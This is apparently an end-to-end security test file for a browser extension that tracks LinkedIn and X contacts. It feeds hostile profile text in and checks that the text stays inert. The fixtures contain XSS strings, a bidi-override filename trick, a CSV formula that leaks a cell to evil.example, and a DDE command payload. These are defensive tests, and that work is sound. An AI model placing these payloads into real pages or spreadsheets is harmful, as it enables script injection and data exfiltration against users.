/**
 * Security in real Chromium (issue 6): who can reach the background, what a malformed message
 * does, and what hostile profile text becomes in the panel, the popup, the database and the CSV.
 * Unit-level counterparts: utils/messaging/router.test.ts (every type, every wrong sender) and
 * utils/sites/hostile-text.test.ts (extraction).
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import type { Dialog, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dbDigest, dumpDb, sendRaw } from './extension-page';
import { ETHAN, ownPage } from './fixtures';
import { launchExtension, type ExtensionSession } from './harness';
import { en } from './messages';
import { evaluateInPanel, panel, panelHosts, panelName } from './panel';
import { CHROME_DIR } from './paths';

/** About 1 MB of headline: words, so whitespace collapsing cannot shrink it to nothing. */
const MEGABYTE = 'Lorem ipsum dolor sit amet '.repeat(Math.ceil(1_000_000 / 27));
const withPadding = (html: string) => html.replace('<!--HEADLINE_PADDING-->', MEGABYTE);

const HOSTILE_LINKEDIN = {
  url: 'https://www.linkedin.com/in/mallory-hostile/',
  id: 'linkedin:mallory-hostile',
  html: () => withPadding(ownPage('hostile-linkedin.html')),
  // As the page shows it, minus the bidi override (cleanText strips U+202E).
  name: '<img src=x onerror=alert(1)><script>alert(1)</script> yrollaM javascript:alert(1)',
  headlineStart: '=HYPERLINK("https://evil.example/?leak="&A1,"Click") <script>alert(1)</script> <img src=x onerror=alert(1)> javascript:alert(1) gnp.exe Lorem',
};
const HOSTILE_X = {
  url: 'https://x.com/mallory_x',
  id: 'x:mallory_x',
  html: () => withPadding(ownPage('hostile-x.html')),
  name: '<script>alert(1)</script>X yrollaM <img src=x onerror=alert(1)> javascript:alert(1)',
  headlineStart: "+cmd|' /C calc'!A0 <img src=x onerror=alert(1)> <script>alert(1)</script>\njavascript:alert(1) gnp.exe Lorem",
};
const HOSTILE_NOTE = '<b>bold?</b> <img src=x onerror=alert(1)> =1+1';
const EVIL = 'https://evil.example/';
const EVIL_PROFILE = 'https://evil.example/in/ethanohara/';

const profile = { site: 'linkedin', handle: 'ethanohara', name: "Ethan O'Hara", headline: null, company: null, location: null, avatarUrl: null };

/** Markup the panel must never contain, and any inline event handler. */
async function injectedInPanel(page: Page): Promise<string[]> {
  return evaluateInPanel(page, (root) => {
    const found: string[] = [];
    for (const el of root.querySelectorAll('*')) {
      if (['script', 'img', 'iframe', 'object', 'embed', 'b'].includes(el.localName)) found.push(el.localName);
      for (const attr of el.getAttributeNames()) if (attr.startsWith('on')) found.push(`${el.localName}[${attr}]`);
      const href = el.getAttribute('href');
      if (href && /^\s*javascript:/i.test(href)) found.push(`${el.localName}[href=${href}]`);
    }
    return found;
  }, null, ['no panel']);
}

/** What a web page's own scripts get when they try to message the extension. */
function tryToReach(page: Page, extensionId: string): Promise<string> {
  return page.evaluate(async (id) => {
    const runtime = (globalThis as unknown as { chrome?: { runtime?: { sendMessage?: (...a: unknown[]) => Promise<unknown> } } }).chrome?.runtime;
    if (typeof runtime?.sendMessage !== 'function') return 'no runtime';
    try {
      const reply = await runtime.sendMessage(id, { type: 'note:add', payload: { profile: { site: 'linkedin', handle: 'evil', name: 'x', headline: null, company: null, location: null, avatarUrl: null }, body: 'from the web' } });
      return `reply: ${JSON.stringify(reply)}`;
    } catch (error) {
      return `refused: ${String(error)}`;
    }
  }, extensionId);
}

describe('security in real Chromium', () => {
  let session: ExtensionSession;
  let popup: Page;
  const dialogs: string[] = [];

  beforeAll(async () => {
    session = await launchExtension();
    session.serve({
      [EVIL]: '<!doctype html><html><body><h1>Not LinkedIn</h1></body></html>',
      [EVIL_PROFILE]: '<!doctype html><html><body><main><h1>Ethan O\'Hara</h1></main></body></html>',
      [ETHAN.url]: ETHAN.html(),
      [HOSTILE_LINKEDIN.url]: HOSTILE_LINKEDIN.html(),
      [HOSTILE_X.url]: HOSTILE_X.html(),
    });
    session.context.on('dialog', (dialog: Dialog) => {
      dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss().catch(() => undefined);
    });
    popup = await session.openPopup();
    // Something to protect: one saved person with a note.
    expect(await sendRaw(popup, { type: 'note:add', payload: { profile, body: 'seed' } })).toMatchObject({ ok: true });
  });
  afterAll(async () => {
    await session?.close();
  });

  it('declares no externally_connectable, so no web page can message the extension', () => {
    const manifest = JSON.parse(readFileSync(path.join(CHROME_DIR, 'manifest.json'), 'utf8'));
    expect(manifest.externally_connectable).toBeUndefined();
    expect(manifest.web_accessible_resources ?? []).toEqual([]);
  });

  it('a page that is not LinkedIn or X cannot reach the extension, gets no panel, and changes nothing', async () => {
    // LinkedIn's own page scripts (the main world, not our content script) cannot either. Our
    // content script's visit refreshes the saved details first; wait for that before comparing.
    const linkedin = await session.context.newPage();
    await linkedin.goto(ETHAN.url);
    await expect.poll(() => panelName(linkedin).textContent()).toBe(ETHAN.name);
    await expect.poll(async () => (await dumpDb(popup)).contacts[0]?.lastVisitedAt ?? null).not.toBeNull();
    const before = await dbDigest(popup);
    expect(await tryToReach(linkedin, session.extensionId)).toMatch(/^(no runtime|refused: )/);
    await linkedin.close();
    for (const url of [EVIL, EVIL_PROFILE]) {
      const page = await session.context.newPage();
      await page.goto(url);
      expect(await tryToReach(page, session.extensionId)).toMatch(/^(no runtime|refused: )/);
      await page.waitForTimeout(500);
      expect((await panelHosts(page)).length).toBe(0);
      await page.close();
    }
    expect(await dbDigest(popup)).toBe(before);
  });

  it('malformed payloads of every message type get an "invalid" reply from the real background and change nothing', async () => {
    const contactId = 'linkedin:ethanohara';
    const malformed: Record<string, unknown[]> = {
      'contact:get': [{}, { key: { site: 'facebook', handle: 'a' } }, { key: { site: 'x', handle: 'UPPER' } }],
      'contact:visit': [{ profile: { ...profile, headline: 'x'.repeat(2001) } }, { profile: { ...profile, avatarUrl: 'javascript:alert(1)' } }],
      'contact:track': [{ profile: { ...profile, extra: 1 } }, { profile: { ...profile, handle: '' } }, { profile: { ...profile, handle: 'a/b' } }],
      'note:add': [{ profile, body: '' }, { profile, body: '   ' }, { profile, body: 'x'.repeat(10_001) }, { profile, body: 42 }, { body: 'x' }, { profile, body: 'x', id: 1 }],
      'note:update': [{ contactId, noteId: -1, body: 'x' }, { contactId: 'mastodon:a', noteId: 1, body: 'x' }, { contactId, noteId: 1.5, body: 'x' }, { contactId, noteId: 1, body: '' }],
      'note:delete': [{ contactId }, { contactId: 'x:a b', noteId: 1 }, { contactId, noteId: '1' }],
      'note:restore': [{ contactId, note: { id: 1, body: '', createdAt: Date.now(), updatedAt: Date.now() } }, { contactId, note: { id: -1, body: 'x', createdAt: Date.now(), updatedAt: Date.now() } }, { contactId, note: { id: 1, body: 'x', createdAt: 'now', updatedAt: Date.now() } }],
      'touch:log': [{ profile, kind: 'like', at: Date.now() }, { profile, kind: 'call', at: Date.now() + 10 * 86_400_000 }, { profile, kind: 'call', at: 'yesterday' }, { profile, kind: 'call', at: 1, note: 'x'.repeat(2001) }],
      'contact:set-last-contact': [{ profile, at: null }, { profile, at: -5 }, { profile, at: 1.5 }],
      'contacts:list-recent': [{ limit: 0, offset: 0 }, { limit: 100_000, offset: 0 }, { limit: 10 }],
      'settings:get': [{ all: true }, null, []],
      'settings:save': [{ patch: { defaultCadenceDays: 0 } }, { patch: { language: 'fr' } }, { patch: { industry: '<img src=x>' } }, { patch: { admin: true } }, { patch: { tagCadences: { mentor: 0 } } }, { patch: { tagCadences: { ['x'.repeat(41)]: 30 } } }],
      'badge:refresh': [{ count: 5 }, 'now'],
      'tags:list': [{ prefix: 'a' }, []],
      'contact:update': [{ profile, patch: { industry: 'astrology' } }, { profile, patch: { cadenceDays: -1 } }, { profile, patch: { tags: ['x'.repeat(41)] } }, { profile, patch: { tags: Array(21).fill('a') } }],
      'popup:home': [{ dueLimit: 0 }, { dueLimit: 1e6 }, {}],
      'contact:done': [{ contactId, kind: 'poke' }, { kind: 'message' }],
      'contact:snooze': [{ contactId, length: 'forever' }, { contactId }],
      'suggestion:act': [{ contactId, action: 'shown' }, { contactId, action: 'done' }, { contactId, action: 'done', kind: 'poke' }, { contactId, action: 'snooze', length: 'forever' }, { contactId, action: 'skip', kind: 'message' }, { action: 'skip' }],
      'tab:profile': [{ profile: { ...profile, site: 'mastodon' } }, {}],
      'tab:current': [{ tabId: -1 }, { tabId: 'active' }],
    };
    const before = await dbDigest(popup);
    for (const [type, payloads] of Object.entries(malformed)) {
      for (const payload of payloads) {
        const reply = await sendRaw(popup, { type, payload });
        expect(reply, `${type} ${JSON.stringify(payload).slice(0, 60)}`).toMatchObject({ ok: false, error: { code: 'invalid' } });
      }
    }
    for (const message of [null, 'note:add', 42, [], { type: 'db:drop', payload: {} }, { type: 'constructor', payload: {} }, { type: '__proto__', payload: {} }, { payload: {} }]) {
      expect(await sendRaw(popup, message), JSON.stringify(message)).toMatchObject({ ok: false, error: { code: 'invalid' } });
    }
    // Well-formed but from the wrong kind of sender: tab:profile is for content scripts only.
    expect(await sendRaw(popup, { type: 'tab:profile', payload: { profile } })).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(await dbDigest(popup)).toBe(before);
    // The message type list above covers the whole contract (a new type needs its malformed cases).
    expect(Object.keys(malformed).length).toBe(21);
  });

  for (const hostile of [HOSTILE_LINKEDIN, HOSTILE_X]) {
    it(`${hostile.id}: hostile name and a 1 MB headline show as inert text, are stored clamped, and list as text in the popup`, async () => {
      const page = await session.context.newPage();
      await page.goto(hostile.url);
      await expect.poll(() => panelName(page).textContent()).toBe(hostile.name);
      expect(await panel(page).getAttribute('aria-label')).toContain(hostile.name);
      expect(await panel(page).locator('.notice').count()).toBe(0);

      await panel(page).getByLabel(en('noteLabel')).fill(HOSTILE_NOTE);
      await panel(page).getByRole('button', { name: en('noteSave') }).click();
      await expect.poll(() => panel(page).locator('.note .body').allTextContents()).toEqual([HOSTILE_NOTE]);
      expect(await injectedInPanel(page)).toEqual([]);
      // Nothing leaked into the page's own DOM either.
      expect(await page.locator('img[src="x"], body > script').count()).toBe(0);

      const contact = (await dumpDb(popup)).contacts.find((c) => c.id === hostile.id);
      expect(contact?.name).toBe(hostile.name);
      const headline = String(contact?.headline);
      expect(headline.startsWith(hostile.headlineStart)).toBe(true);
      expect(headline.length).toBeLessThanOrEqual(2000);
      expect(headline.endsWith('…')).toBe(true);
      expect(JSON.stringify(contact)).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);

      const list = await session.openPopup();
      const row = list.locator(`li.contact[data-contact-id="${hostile.id}"]`);
      await expect.poll(() => row.locator('.name').textContent()).toBe(hostile.name);
      expect(await list.locator('li.contact img, li.contact script, li.contact b').count()).toBe(0);
      await list.close();
      await page.close();
      expect(dialogs).toEqual([]);
    });
  }

  it('the options page CSV export quotes hostile text and neutralises formulas', async (ctx) => {
    const options = await session.openOptions();
    const exportButton = options.getByTestId('export-contacts');
    await options.waitForLoadState('domcontentloaded');
    await options.locator('h1').waitFor();
    if ((await exportButton.count()) === 0) {
      await options.close();
      ctx.skip(); // the export UI is not in this build: covered by utils/io/csv-export tests
      return;
    }
    const [download] = await Promise.all([options.waitForEvent('download'), exportButton.click()]);
    const file = await download.path();
    const raw = readFileSync(file, 'utf8');
    expect(raw.startsWith('\uFEFF')).toBe(true);
    expect(raw).toContain('\r\n');
    const { data } = Papa.parse<Record<string, string>>(raw.slice(1), { header: true, skipEmptyLines: true });
    const byHandle = new Map(data.map((row) => [row.handle, row]));
    const li = byHandle.get('mallory-hostile');
    const x = byHandle.get('mallory_x');
    // Text survives the round trip exactly (RFC 4180 quoting), formula starts get a leading quote.
    expect(li?.name).toBe(HOSTILE_LINKEDIN.name);
    expect(li?.headline?.startsWith(`'${HOSTILE_LINKEDIN.headlineStart}`)).toBe(true);
    expect(li?.location).toBe("'@Tokyo, Japan");
    expect(x?.name).toBe(HOSTILE_X.name);
    expect(x?.headline?.startsWith(`'${HOSTILE_X.headlineStart}`)).toBe(true);
    // Exactly one record per saved person: no embedded quote or newline broke a row apart.
    expect(data.length).toBe(3);
    expect(raw).not.toMatch(/\r\n=|,=/);
    await options.close();
    expect(dialogs).toEqual([]);
  });

  it('made no network request of its own', () => {
    expect(session.foreignRequests()).toEqual([]);
  });
});
